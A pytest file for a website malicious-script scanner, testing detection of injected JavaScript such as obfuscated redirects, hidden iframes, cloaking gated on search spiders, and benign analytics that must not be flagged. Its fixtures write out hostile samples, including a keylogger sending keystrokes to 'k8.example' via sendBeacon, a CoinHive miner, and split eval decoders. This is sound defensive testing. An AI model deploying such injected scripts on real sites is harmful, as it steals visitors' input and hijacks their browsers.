from base64 import b64encode
from datetime import UTC, datetime

import pytest

from scanner import rules
from scanner.detectors.malicious_scripts import detect
from scanner.model import SiteEntry, Snapshot
from scanner.page import Page
from scanner.scripts import NotFullyRead, script_hash

RULES = rules.load("malicious_scripts")
HOME = "https://www.example.gov.cn/"
JUMP = "location.href=String.fromCharCode(104,116,116,112,115,58,47,47,107,56,46,101,120,97,109,112,108,101,47)"
CONAC = (
    "document.write(unescape(\"%3Cspan id='_ideConac' %3E%3C/span%3E%3Cscript "
    "src='http://dcs.conac.cn/js/01/0/0/1.js' type='text/javascript'%3E%3C/script%3E\"));"
)


def page(body: str | bytes, url: str = HOME, kind: str = "text/html", dom: str | None = None) -> Page:
    data = body.encode() if isinstance(body, str) else body
    headers = (("Content-Type", kind),)
    return Page(
        Snapshot(url=url, final_url=url, fetched_at=datetime.now(UTC), headers=headers, body=data, dom=dom),
        SiteEntry(home=HOME),
    )


def said(each: Page) -> set[str]:
    return {finding.rule.partition("/")[2] for finding in detect(each, RULES)}


@pytest.mark.parametrize(
    "html",
    [
        f"<script>{JUMP}</script>",
        f'<body onload="{JUMP}">',
        f'<a href="javascript:{JUMP}">x</a>',
        f'<script src="data:text/javascript;base64,{b64encode(JUMP.encode()).decode()}"></script>',
        f"<iframe srcdoc='<script>{JUMP}</script>'></iframe>",
    ],
    ids=["element", "handler", "address", "data", "srcdoc"],
)
def test_code_is_read_wherever_it_would_run(html):
    assert "hidden-jump" in said(page(html))


def test_a_script_file_is_read_as_one():
    assert "hidden-jump" in said(page(JUMP, HOME + "a.js", "application/javascript"))
    assert "hidden-jump" in said(page(JUMP, HOME + "download?id=1", "application/octet-stream"))


def test_what_only_the_browser_saw_is_read_and_marked():
    found = list(detect(page("<p>x</p>", dom=f"<p>x</p><script>{JUMP}</script>"), RULES))
    assert [each.rendered for each in found if each.rule.endswith("hidden-jump")] == [True]


def test_gb18030_scripts_are_read():
    assert "title-switch" in said(
        page('<script>if(navigator.userAgent.indexOf("baidu")==-1){document.title="市政府"}</script>'.encode("gb18030"))
    )


def test_cause_is_the_target_and_the_finding_vetoes():
    (found,) = [each for each in detect(page(f"<script>{JUMP}</script>"), RULES) if each.rule.endswith("hidden-jump")]
    assert found.cause == "k8.example"
    assert found.veto_grade
    assert "target=k8.example" in found.signs


def test_cause_without_target_is_the_script():
    code = "var m=new CoinHive.Anonymous('KEY');m.start()"
    (found,) = detect(page(f"<script>{code}</script>"), RULES)
    assert found.cause == script_hash(code)


@pytest.mark.parametrize(
    "code",
    [
        CONAC,
        'var _hmt=_hmt||[];(function(){var hm=document.createElement("script");hm.src="https://hm.baidu.com/hm.js?0";'
        'var s=document.getElementsByTagName("script")[0];s.parentNode.insertBefore(hm,s)})();',
        "var p=(('https:'==document.location.protocol)?'https://':'http://');document.write(unescape(\"%3Cspan id="
        "'cnzz_stat_icon_1'%3E%3C/span%3E%3Cscript src='\"+p+\"s4.cnzz.com/z_stat.php%3Fid%3D1'%3E%3C/script%3E\"));",
        "(function(){var bp=document.createElement('script');bp.src='//push.zhanzhang.baidu.com/push.js';"
        "document.body.appendChild(bp)})()",
        "$ts=window['$_ts'];if(!$ts)$ts={};eval(f('\\x61\\x62'+'c'));",
        "if(/Android|iPhone/i.test(navigator.userAgent)){location.href='http://m.example.gov.cn/'}",
        "var d=eval('('+xhr.responseText+')');for(var i in d)list.innerHTML+='<li>'+d[i]+'</li>'",
        "document.onkeydown=function(e){if(e.keyCode==13)location.href='/search?q='+encodeURIComponent(q.value)}",
    ],
    ids=["conac", "baidu", "cnzz", "push", "firewall", "own mobile site", "json by eval", "search key"],
)
def test_ordinary_scripts_are_silent(code):
    assert said(page(f"<script>{code}</script>")) == set()


def test_a_cap_is_reported_after_the_findings():
    found = []
    body = f"<script>{JUMP}</script><script>eval('x');{' ' * 1_000_001}</script>"
    with pytest.raises(NotFullyRead, match="source"):
        found.extend(detect(page(body), RULES))
    assert found


@pytest.mark.parametrize("deep", ["{}", "eval('{}')"], ids=["itself", "what it runs"])
def test_what_is_nested_too_deep_is_not_called_clean(deep):
    nested = f"location[{'[' * 900}'hr'+'ef'{']' * 900}]=String.fromCharCode(47)"
    with pytest.raises(NotFullyRead, match="depth"):
        said(page(f"<script>{deep.format(nested.replace(chr(39), '`'))}</script>"))


@pytest.mark.parametrize("added", ["{0};{1}", "{1};{0}"], ids=["before", "behind"])
def test_what_was_added_to_a_long_file_is_read_by_itself(added):
    library = f"!function(w){{{'w.count=(w.count||0)+1;' * 2000}}}(window)"
    keys = "let k='';onkeydown=e=>{k+=e.key;navigator.sendBeacon('https://k8.example/k',k)}"
    clean = "let k=0;onkeydown=e=>{k+=1;navigator.sendBeacon('/count',k)}"
    assert said(page(added.format(keys, library), HOME + "a.js", "application/javascript"))
    assert not said(page(added.format(clean, library), HOME + "a.js", "application/javascript"))


def test_two_scripts_that_work_together_are_read_together():
    decoder = "".join(f"function a{i}(){{return '{part}'}};" for i, part in enumerate(["ev", "al", "un", "escape"]))
    assert said(page(f"<script>{decoder}</script><script>this[a0()+a1()](this[a2()+a3()](document.t.value))</script>"))


def test_hidden_frames_of_strangers_only():
    assert "hidden-frame" in said(page('<div style="position:absolute;left:-9999px"><iframe src="//k8.example/">'))
    assert said(page('<iframe src="https://www.gov.cn/x" width=0 height=0></iframe>')) == set()


FRAME = '<iframe src="https://k8.example/in" width="0" height="0"></iframe>'


@pytest.mark.parametrize(
    ("around", "severity"),
    [
        ("", "high"),
        ('<script src="https://a.example/x.js"></script>', "high"),
        ('<video src="https://k8.example/vod/1.mp4" controls></video>', "low"),
        ('<audio><source src="https://v.k8.example/a.mp3"></audio>', "low"),
        ('<video src="https://other.example/1.mp4"></video>', "high"),
        ("".join(f'<img src="https://n{number}.example/p.gif">' for number in range(6)), "low"),
        ("".join(f'<img src="https://img.k8.example/{number}.gif">' for number in range(3)), "low"),
    ],
)
def test_hidden_frames_of_a_crowd_are_a_hint(around: str, severity: str) -> None:
    (found,) = (each for each in detect(page(f"{around}{FRAME}"), RULES) if each.rule.endswith("/hidden-frame"))
    assert found.severity.value == severity


COUNTER = "var s=document.createElement('script');s.src='https://tj.k8.example/count.js';document.head.appendChild(s)"
SPIDERS = "!/Baiduspider|360Spider|Sogou/i.test(navigator.userAgent)"


@pytest.mark.parametrize(
    ("gate", "code", "severity"),
    [
        (SPIDERS, COUNTER, "medium"),  # spiders are no visitors
        (SPIDERS, COUNTER.replace("tj.k8.example/count", "a.k8.example/show"), "high"),
        (f"{SPIDERS}&&/baidu/.test(document.referrer)", COUNTER, "critical"),
        (SPIDERS, "location='https://tj.k8.example/count'", "high"),
    ],
)
def test_a_counter_that_only_leaves_spiders_out_is_for_review(gate: str, code: str, severity: str) -> None:
    found = detect(page(f"<p>x</p><script>if({gate}){{{code}}}</script>"), RULES)
    assert max(found, key=lambda each: each.severity.rank).severity == severity
